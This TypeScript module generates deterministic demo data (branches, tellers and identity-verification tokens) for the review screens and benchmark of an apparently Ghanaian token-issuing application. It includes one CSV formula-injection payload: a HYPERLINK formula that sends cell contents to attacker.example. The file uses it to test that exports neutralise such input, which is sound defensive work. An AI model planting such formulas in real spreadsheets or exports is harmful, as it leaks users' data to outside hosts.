/**
 * Demo data for the review screens (`npm run db:seed -- --demo`) and the benchmark: several
 * branches, their tellers, and days of tokens in every state, with realistic proportions and
 * times. Pure and deterministic — the same seed gives the same data — so end-to-end tests can
 * rely on what is there, and nothing here touches a database (writer.ts does).
 *
 * Tokens are produced by a generator, in creation order, so 200 000 of them never sit in memory.
 */
import type { TokenStateName } from "@/lib/tokens/state";
import { TOKEN_LIFETIME_MS } from "@/lib/tokens/lifetime";
import type { TokenKind } from "@/lib/domain/token-kinds";

export type DemoBranchPlan = { code: string; name: string };
export type DemoTellerPlan = { key: string; username: string; name: string; branchCode: string; skill: number };

export type DemoIdType = "GHANA_CARD" | "VOTER" | "PASSPORT" | "DRIVER_LICENCE";

/** How the issuing call ended (token_requests.outcome). */
export type DemoIssueOutcome = "issued" | "outcome_unknown" | "rejected" | "failed_upstream";

export type DemoToken = {
  /** Position in the plan (0-based): tests and the writer derive stable ids from it. */
  index: number;
  tellerKey: string;
  branchCode: string;
  kind: TokenKind;
  idType: DemoIdType;
  /** In canonical form, as the issuing code stores it (GHA-123456789-0). */
  idNumber: string;
  referenceId: string;
  purpose: string;
  phoneNumber: string | null;
  email: string | null;
  createdAt: Date;
  outcome: DemoIssueOutcome;
  /** Set when outcome is issued. */
  token: string | null;
  issuedAt: Date | null;
  /** The state a watcher would have recorded by `now`; null when no token was issued. */
  state: TokenStateName | null;
  /** When the customer started (used), when the state became final. */
  usedAt: Date | null;
  finishedAt: Date | null;
  result: { status: "SUCCESSFUL" | "FAILED"; transactionNumber: string; error: string | null } | null;
  errorCode: string | null;
};

export type DemoPlanOptions = {
  /** PRNG seed: same seed, same data. */
  seed?: number;
  /** The moment the data leads up to (tokens are spread over the `days` before it). */
  now: Date;
  days?: number;
  /** Total tokens; spread over days with weekday/hour weights. */
  totalTokens?: number;
  branches?: readonly DemoBranchPlan[];
  tellersPerBranch?: number;
};

export const DEMO_SEED = 20261122;

/** The two branches of the staff seed come first, so their demo accounts see data too. */
export const demoReviewBranches: readonly DemoBranchPlan[] = [
  { code: "ACC", name: "Accra – Head Office" },
  { code: "KUM", name: "Kumasi – Adum" },
  { code: "TKD", name: "Takoradi – Market Circle" },
  { code: "TML", name: "Tamale – Central" },
  { code: "CCT", name: "Cape Coast – Kotokuraba" },
];

/**
 * A customer every demo database has, in Kumasi, with three tokens: the exact-ID-number search
 * of the review list finds them (end-to-end test). A made-up number, like all demo data.
 */
export const demoKnownCustomer = {
  idType: "GHANA_CARD" as const,
  idNumber: "GHA-700000123-4",
  branchCode: "KUM",
  tokenCount: 3,
};

/** A reference an attacker might type, to prove the CSV export neutralises it. */
export const demoFormulaReference = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")';

const firstNames = ["Ama", "Kwame", "Efua", "Yaw", "Akosua", "Kofi", "Abena", "Kwesi", "Adwoa", "Kojo", "Esi", "Kwabena", "Afua", "Fiifi", "Mansa", "Nana"];
const lastNames = ["Mensah", "Owusu", "Asante", "Boateng", "Darko", "Appiah", "Ofori", "Agyeman", "Quaye", "Tetteh", "Amoah", "Sarpong", "Addo", "Baah"];
const purposes = ["Account opening", "KYC refresh", "Withdrawal", "Loan application", "Card replacement", "Mobile money link"];
const failureTexts = [
  "Fingerprint did not match the card holder",
  "Face did not match the ID photo",
  "Liveness check failed",
  "ID number not found at the issuing authority",
];

/** Mulberry32: small, fast, good enough for demo data, and the same everywhere. */
export function createRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export type DemoPlan = {
  seed: number;
  now: Date;
  days: number;
  totalTokens: number;
  branches: readonly DemoBranchPlan[];
  tellers: DemoTellerPlan[];
  /** A fresh generator of the tokens, in creation order, each call the same sequence. */
  tokens: () => Generator<DemoToken>;
};

export function planDemoData(options: DemoPlanOptions): DemoPlan {
  const seed = options.seed ?? DEMO_SEED;
  const days = options.days ?? 30;
  const totalTokens = options.totalTokens ?? 3_000;
  const branches = options.branches ?? demoReviewBranches;
  const tellersPerBranch = options.tellersPerBranch ?? 3;
  const random = createRandom(seed);

  const tellers: DemoTellerPlan[] = [];
  const usedNames = new Set<string>();
  for (const branch of branches) {
    for (let number = 1; number <= tellersPerBranch; number++) {
      let name: string;
      do {
        name = `${pick(random, firstNames)} ${pick(random, lastNames)}`;
      } while (usedNames.has(name));
      usedNames.add(name);
      tellers.push({
        key: `${branch.code.toLowerCase()}-${number}`,
        username: `demo.teller.${branch.code.toLowerCase()}.${number}`,
        name,
        branchCode: branch.code,
        // Some tellers' customers succeed more often and faster: the figures have something to show.
        skill: 0.75 + random() * 0.5,
      });
    }
  }

  return {
    seed,
    now: options.now,
    days,
    totalTokens,
    branches,
    tellers,
    tokens: () => generateTokens({ seed, now: options.now, days, totalTokens, branches, tellers }),
  };
}

type GenerateInput = Omit<DemoPlan, "tokens">;

function* generateTokens(input: GenerateInput): Generator<DemoToken> {
  const random = createRandom(input.seed ^ 0x5eed);
  const times = creationTimes(input, random);
  const tellersByBranch = new Map<string, DemoTellerPlan[]>();
  for (const teller of input.tellers) {
    const list = tellersByBranch.get(teller.branchCode) ?? [];
    list.push(teller);
    tellersByBranch.set(teller.branchCode, list);
  }
  // Head office and Kumasi are busier than the smaller branches.
  const branchWeights = input.branches.map((_, index) => (index === 0 ? 3 : index === 1 ? 2 : 1));
  const knownCustomerSlots = pickKnownCustomerSlots(times.length, random);
  const returningCustomers: { idType: DemoIdType; idNumber: string; phone: string }[] = [];

  for (let index = 0; index < times.length; index++) {
    const createdAt = times[index]!;
    const isKnownCustomer = knownCustomerSlots.has(index);
    const branch = isKnownCustomer
      ? input.branches.find((candidate) => candidate.code === demoKnownCustomer.branchCode) ?? input.branches[0]!
      : input.branches[weightedIndex(random, branchWeights)]!;
    const teller = pick(random, tellersByBranch.get(branch.code)!);
    const kind: DemoToken["kind"] = isKnownCustomer || random() < 0.45 ? "fingerprint" : "remote";

    let idType: DemoIdType;
    let idNumber: string;
    let phone: string;
    if (isKnownCustomer) {
      idType = demoKnownCustomer.idType;
      idNumber = demoKnownCustomer.idNumber;
      phone = "0244000123";
    } else if (returningCustomers.length > 20 && random() < 0.08) {
      // Some customers come back (a retry after an expiry or a failure).
      const customer = pick(random, returningCustomers);
      ({ idType, idNumber, phone } = customer);
      if (kind === "fingerprint" && idType !== "GHANA_CARD") {
        idType = "GHANA_CARD";
        idNumber = ghanaCard(random);
      }
    } else {
      idType = kind === "fingerprint" ? "GHANA_CARD" : pickIdType(random);
      idNumber = idNumberOf(idType, random);
      phone = phoneNumber(random);
      if (returningCustomers.length < 500) returningCustomers.push({ idType, idNumber, phone });
    }

    const referenceId = index === 7 ? demoFormulaReference : random() < 0.85 ? phone : `ACC-${String(Math.floor(random() * 1e6)).padStart(6, "0")}`;
    const email = kind === "remote" && random() < 0.3 ? `customer${index}@example.com` : null;
    yield {
      index,
      tellerKey: teller.key,
      branchCode: branch.code,
      kind,
      idType,
      idNumber,
      referenceId,
      purpose: pick(random, purposes),
      phoneNumber: kind === "remote" ? phone : null,
      email,
      createdAt,
      ...lifeOfToken({ createdAt, now: input.now, skill: teller.skill, kind, index, random }),
    };
  }
}

/** What happened to a token between its creation and `now`. */
function lifeOfToken(input: {
  createdAt: Date;
  now: Date;
  skill: number;
  kind: DemoToken["kind"];
  index: number;
  random: () => number;
}): Pick<DemoToken, "outcome" | "token" | "issuedAt" | "state" | "usedAt" | "finishedAt" | "result" | "errorCode"> {
  const { createdAt, now, skill, random } = input;
  const notIssued = { token: null, issuedAt: null, state: null, usedAt: null, finishedAt: null, result: null };
  const roll = random();
  if (roll < 0.015) return { ...notIssued, outcome: "outcome_unknown", state: "outcome_unknown", errorCode: "UPSTREAM_TIMEOUT" };
  if (roll < 0.035) return { ...notIssued, outcome: "rejected", errorCode: "UPSTREAM_REJECTED" };
  if (roll < 0.045) return { ...notIssued, outcome: "failed_upstream", errorCode: "UPSTREAM_SERVER_ERROR" };

  const issuedAt = new Date(createdAt.getTime() + 600 + Math.floor(random() * 2400));
  const token = tokenValue(input.index, random);
  const base = { outcome: "issued" as const, token, issuedAt, errorCode: null };
  const elapsedMs = now.getTime() - issuedAt.getTime();
  const expiryMs = TOKEN_LIFETIME_MS;

  // Does the customer start within the 15 minutes, and when?
  const startsProbability = input.kind === "fingerprint" ? 0.9 : 0.72;
  const willStart = random() < Math.min(0.98, startsProbability * skill);
  const startAfterMs = Math.floor((input.kind === "fingerprint" ? 40_000 : 120_000) + random() * (input.kind === "fingerprint" ? 240_000 : 600_000));
  const resultAfterStartMs = Math.floor((20_000 + random() * 200_000) / skill);
  const outcomeRoll = random();

  if (!willStart || startAfterMs >= expiryMs) {
    if (elapsedMs < expiryMs) return { ...base, state: "waiting", usedAt: null, finishedAt: null, result: null };
    if (random() < 0.06) {
      // The service said "Invalid Token" for a token it had just issued.
      const at = new Date(issuedAt.getTime() + 5_000 + Math.floor(random() * 60_000));
      return { ...base, state: "invalid", usedAt: null, finishedAt: at, result: null };
    }
    const at = new Date(issuedAt.getTime() + expiryMs + 60_000 + Math.floor(random() * 30_000));
    // Expired shows at once; the token is closed once the service confirmed it (a minute or so later).
    return { ...base, state: "expired", usedAt: null, finishedAt: at <= now ? at : null, result: null };
  }

  const usedAt = new Date(issuedAt.getTime() + startAfterMs);
  if (usedAt > now) return { ...base, state: "waiting", usedAt: null, finishedAt: null, result: null };
  if (outcomeRoll < 0.012) {
    // The customer started but no result ever came (the watcher gave up after its follow limit).
    const at = new Date(issuedAt.getTime() + expiryMs + 120 * 60_000);
    if (at > now) return { ...base, state: "in_progress", usedAt, finishedAt: null, result: null };
    return { ...base, state: "outcome_unknown", usedAt, finishedAt: at, result: null };
  }
  const resultAt = new Date(usedAt.getTime() + resultAfterStartMs);
  if (resultAt > now) return { ...base, state: "in_progress", usedAt, finishedAt: null, result: null };
  const isSuccessful = outcomeRoll < 0.012 + 0.84 * Math.min(1.1, skill);
  const transactionNumber = `TXN${String(100_000_000 + input.index).slice(-9)}`;
  return {
    ...base,
    state: isSuccessful ? "successful" : "failed",
    usedAt,
    finishedAt: resultAt,
    result: isSuccessful
      ? { status: "SUCCESSFUL", transactionNumber, error: null }
      : { status: "FAILED", transactionNumber, error: pick(random, failureTexts) },
  };
}

/**
 * Creation times over the `days` before `now`: branch hours (08:00–17:00, Accra time = UTC),
 * busier mornings, quiet Saturdays, no Sundays; the last few tokens fall inside the last
 * quarter hour so that some are still waiting or in progress.
 */
function creationTimes(input: GenerateInput, random: () => number): Date[] {
  const dayStarts: { start: number; weight: number }[] = [];
  const today = Date.UTC(input.now.getUTCFullYear(), input.now.getUTCMonth(), input.now.getUTCDate());
  for (let back = input.days - 1; back >= 0; back--) {
    const start = today - back * 86_400_000;
    const weekday = new Date(start).getUTCDay();
    const weight = weekday === 0 ? 0 : weekday === 6 ? 0.4 : 1;
    if (weight > 0) dayStarts.push({ start, weight });
  }
  const recentCount = Math.min(12, Math.floor(input.totalTokens / 100));
  const spread = input.totalTokens - recentCount;
  const weights = dayStarts.map((day) => day.weight);
  const times: number[] = [];
  const nowMs = input.now.getTime();
  for (let count = 0; count < spread; count++) {
    const day = dayStarts[weightedIndex(random, weights)]!;
    // Two humps: mid-morning and early afternoon.
    const hour = 8 + (random() < 0.6 ? random() * random() * 5 + 1 : 4.5 + random() * 4.5);
    let at = day.start + Math.floor(hour * 3_600_000);
    if (at > nowMs - 20 * 60_000) at = nowMs - 20 * 60_000 - Math.floor(random() * 6 * 3_600_000);
    times.push(at);
  }
  for (let count = 0; count < recentCount; count++) times.push(nowMs - Math.floor(random() * 14 * 60_000) - 5_000);
  times.sort((a, b) => a - b);
  return times.map((time) => new Date(time));
}

function pickKnownCustomerSlots(count: number, random: () => number): Set<number> {
  const slots = new Set<number>();
  if (count < 50) return slots;
  while (slots.size < demoKnownCustomer.tokenCount) slots.add(Math.floor(count * 0.5 + random() * count * 0.45));
  return slots;
}

function pick<T>(random: () => number, list: readonly T[]): T {
  return list[Math.floor(random() * list.length)]!;
}

function weightedIndex(random: () => number, weights: readonly number[]): number {
  const total = weights.reduce((sum, weight) => sum + weight, 0);
  let roll = random() * total;
  for (let index = 0; index < weights.length; index++) {
    roll -= weights[index]!;
    if (roll < 0) return index;
  }
  return weights.length - 1;
}

function pickIdType(random: () => number): DemoIdType {
  const roll = random();
  return roll < 0.6 ? "GHANA_CARD" : roll < 0.75 ? "VOTER" : roll < 0.9 ? "PASSPORT" : "DRIVER_LICENCE";
}

function digits(random: () => number, count: number): string {
  let text = "";
  for (let index = 0; index < count; index++) text += Math.floor(random() * 10);
  return text;
}

function ghanaCard(random: () => number): string {
  return `GHA-${digits(random, 9)}-${digits(random, 1)}`;
}

function idNumberOf(idType: DemoIdType, random: () => number): string {
  switch (idType) {
    case "GHANA_CARD":
      return ghanaCard(random);
    case "VOTER":
      return digits(random, 10);
    case "PASSPORT":
      return `G${digits(random, 7)}`;
    case "DRIVER_LICENCE":
      return `${String.fromCharCode(65 + Math.floor(random() * 26))}${digits(random, 8)}`;
  }
}

function phoneNumber(random: () => number): string {
  return `0${pick(random, ["24", "54", "55", "20", "50", "27", "26"])}${digits(random, 7)}`;
}

/** Unique by construction (the index is in it), so a 200k-row plan never collides. */
function tokenValue(index: number, random: () => number): string {
  return `D${index.toString(36).toUpperCase().padStart(5, "0")}${digits(random, 3)}`;
}
